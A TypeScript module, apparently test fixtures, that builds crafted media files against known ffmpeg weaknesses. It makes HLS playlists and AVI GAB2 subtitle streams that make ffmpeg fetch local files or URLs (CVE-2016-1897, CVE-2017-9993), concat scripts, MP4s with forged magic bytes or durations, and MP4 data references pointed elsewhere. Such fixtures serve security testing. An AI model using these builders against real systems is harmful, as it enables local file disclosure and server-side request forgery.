/** Files of attackers, made by hand: each small, each aimed at one weakness that ffmpeg once had or still offers. */

const ascii = (text: string) => Buffer.from(text, 'latin1')
const chunk = (id: string, body: Buffer) => {
  const head = Buffer.alloc(8)
  head.write(id, 0, 'latin1')
  head.writeUInt32LE(body.length, 4)
  return Buffer.concat([head, body, Buffer.alloc(body.length % 2)])
}

/** A playlist that lets ffmpeg open other files or addresses (CVE-2016-1897). */
export const playlistOf = (uri: string) =>
  `#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXT-X-TARGETDURATION:10\n#EXTINF:10.0,\n${uri}\n#EXT-X-ENDLIST\n`

/** A concat script that joins a local file. */
export const concatOf = (path: string) => `ffconcat version 1.0\nfile '${path}'\nduration 5\n`

/** An AVI whose subtitle stream (GAB2) is such a playlist (CVE-2017-9993). */
export function aviWithSubtitles(uri: string): Buffer {
  const name = Buffer.from('playlist.m3u8\0', 'utf16le')
  const text = ascii(playlistOf(uri))
  const gab2 = Buffer.alloc(5 + 2 + 4 + name.length + 2 + 4)
  gab2.write('GAB2\0', 0, 'latin1')
  gab2.writeUInt16LE(2, 5)
  gab2.writeUInt32LE(name.length, 7)
  name.copy(gab2, 11)
  gab2.writeUInt16LE(4, 11 + name.length)
  gab2.writeUInt32LE(text.length, 13 + name.length)
  const stream = Buffer.concat([ascii('txts'), Buffer.alloc(52)])
  const header = Buffer.concat([
    ascii('hdrl'),
    chunk('avih', Buffer.alloc(56)),
    chunk('LIST', Buffer.concat([ascii('strl'), chunk('strh', stream), chunk('strf', Buffer.alloc(0))])),
  ])
  const movie = Buffer.concat([ascii('movi'), chunk('00tx', Buffer.concat([gab2, text]))])
  return chunk('RIFF', Buffer.concat([ascii('AVI '), chunk('LIST', header), chunk('LIST', movie)]))
}

/** An MP4 box in front of any content: the magic bytes alone do not prove a video. */
export const behindFalseMark = (content: string | Buffer) =>
  Buffer.concat([
    Buffer.from([0, 0, 0, 0x18]),
    ascii('ftypisom'),
    Buffer.alloc(4),
    ascii('isommp41'),
    Buffer.from(content),
  ])

/** Lets the header of an MP4 claim another length: writes `seconds` into every `mvhd`, `tkhd` and `mdhd` box. */
export function claimDuration(mp4: Buffer, seconds: number): Buffer {
  const changed = Buffer.from(mp4)
  const timescale = changed.readUInt32BE(changed.indexOf('mvhd') + 16)
  changed.writeUInt32BE(seconds * timescale, changed.indexOf('mvhd') + 20)
  for (let at = changed.indexOf('tkhd'); at >= 0; at = changed.indexOf('tkhd', at + 4)) {
    changed.writeUInt32BE(seconds * timescale, at + 24)
  }
  for (let at = changed.indexOf('mdhd'); at >= 0; at = changed.indexOf('mdhd', at + 4)) {
    changed.writeUInt32BE(Math.min(0xffff_ffff, seconds * changed.readUInt32BE(at + 16)), at + 20)
  }
  return changed
}

/** Points the data reference of an MP4 at another file instead of at itself. */
export function referTo(mp4: Buffer, url: string): Buffer {
  const at = mp4.indexOf('url ')
  const changed = Buffer.from(mp4)
  changed.writeUInt32BE(0, at + 4)
  Buffer.from(`${url}\0`).copy(changed, at + 8)
  return changed
}
